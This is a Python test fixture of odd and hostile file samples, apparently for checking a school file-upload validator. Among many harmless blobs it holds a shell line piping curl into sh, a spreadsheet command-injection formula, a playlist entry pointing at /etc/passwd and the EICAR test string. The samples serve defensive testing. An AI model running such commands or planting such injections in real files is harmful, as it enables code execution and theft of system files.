"""Files that are nothing, or something that no school sends."""

from collections.abc import Callable

CASES: dict[str, Callable[[], bytes]] = {
    "nothing at all": lambda: b"",
    "one byte": lambda: b"\0",
    "one letter": lambda: b"a",
    "a line of words": lambda: "Señora Ruiz\r\n".encode(),
    "UTF-16 words": lambda: "Plan\n".encode("utf-16"),
    "zeroes": lambda: bytes(100_000),
    "ones": lambda: b"\xff" * 100_000,
    "every byte": lambda: bytes(range(256)) * 40,
    "a program of Windows": lambda: b"MZ" + bytes(200),
    "a program of Linux": lambda: b"\x7fELF" + bytes(200),
    "a script": lambda: b"#!/bin/sh\ncurl x | sh\n",
    "a page": lambda: b"<!doctype html><script>1</script>",
    "a page behind a mark": lambda: b"\xef\xbb\xbf<html>",
    "XML": lambda: b"<?xml version='1.0'?><x/>",
    "a table": lambda: b"name;=cmd|' /C calc'!A0\n",
    "a mail": lambda: b"From: a\nMIME-Version: 1.0\n\n",
    "a disk": lambda: bytes(32_769) + b"CD001" + bytes(60),
    "a database": lambda: b"SQLite format 3\0" + bytes(100),
    "a pickle": lambda: b"\x80\x04\x95" + bytes(60),
    "a shortcut": lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(60),
    "a test virus": lambda: rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD" + b"-TEST",
    "a list of films": lambda: b"#EXTM3U\nfile:///etc/passwd\n",
    "a torrent": lambda: b"d8:announce3:abce",
}
